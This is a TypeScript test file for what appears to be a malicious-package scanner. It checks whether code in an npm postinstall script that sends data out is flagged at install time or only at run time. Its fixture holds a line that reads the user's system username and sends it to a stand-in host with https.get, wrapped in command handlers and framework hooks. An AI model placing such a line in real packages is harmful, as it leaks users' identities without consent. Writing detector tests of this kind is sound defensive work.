/** What a command line tool or a framework is given to call later does not run now, unless the program is started where it is given. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { examine } from '../../src/engine/examine.ts';
import { Budget } from '../../src/kit/budget.ts';
import { forgeNpm } from '../forge/forge.ts';

/** The stages at which a script that an installation runs sends the user's name out. */
function stagesOf(script: string): string[] {
  const bytes = forgeNpm({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node setup.js' } }, { 'setup.js': script });
  const report = examine({ target: 'x', name: 'x-1.0.0.tgz', bytes }, { budget: new Budget() });
  return [...new Set(report.findings.filter(({ rule }) => rule === 'machine-data-sent').map(({ stage }) => stage))];
}

const SENDS = "() => { require('https').get('https://files.example/?u=' + require('os').userInfo().username); }";

test('the handler of a command runs when the user asks for it', () => {
  assert.deepEqual(stagesOf(`const { program } = require('commander');\nprogram.command('tell').action(${SENDS});\nmodule.exports = program;\n`), ['run']);
  assert.deepEqual(stagesOf(`const { program } = require('commander');\nprogram.command('tell').action(${SENDS});\nprogram.parse(process.argv);\n`), ['install']);
});

test('hooks in an object that a framework is given run when it is used; an answer to a request runs at once', () => {
  assert.deepEqual(stagesOf(`require('frame').defineModule({ setup: ${SENDS} });\n`), ['run']);
  assert.deepEqual(stagesOf(`require('frame').each(['a'], ${SENDS});\n`), ['install']);
  assert.deepEqual(stagesOf(`require('https').get('https://files.example/', { agent: 1 }, ${SENDS});\n`), ['install']);
});
